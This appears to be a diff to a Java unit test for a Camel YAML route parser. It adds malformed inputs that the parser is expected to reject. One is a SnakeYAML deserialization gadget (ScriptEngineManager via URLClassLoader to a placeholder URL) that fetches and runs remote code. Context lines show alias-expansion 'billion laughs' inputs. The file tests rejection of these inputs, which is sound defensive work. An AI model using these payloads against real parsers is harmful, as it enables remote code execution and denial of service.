@@ -25,6 +25,11 @@ record BrokenFile(String text, List<Expected> expected) {
             file("- route:\n    id: a\n    description: a: b\n", at(3, "this is no YAML", "quotes")),
             file("- route: {id: a}\n---\n- route: {id: b}\n", at(2, "second document")),
             file("- route: {id: !!binary a}\n", at(1, "the tag ", "means nothing to Camel")),
+            file("- route:\n    id: a\n    from: !!java.util.HashMap {uri: 'timer:t', steps: [log: x]}\n",
+                    at(3, "the tag 'tag:yaml.org,2002:java.util.HashMap' means nothing to Camel")),
+            file("- !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]\n",
+                    at(1, "the tag ", "ScriptEngineManager' means nothing to Camel")),
+            file("- !<!route> {id: a}\n", at(1, "the tag '!route' means nothing to Camel")),
             file("- route: {id: a, ? [b, c] : d}\n", at(1, "this is no YAML", "key")),
             file("&a [*a]\n", at(1, "this is too large")),
             file("a: &a [x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b]\n"
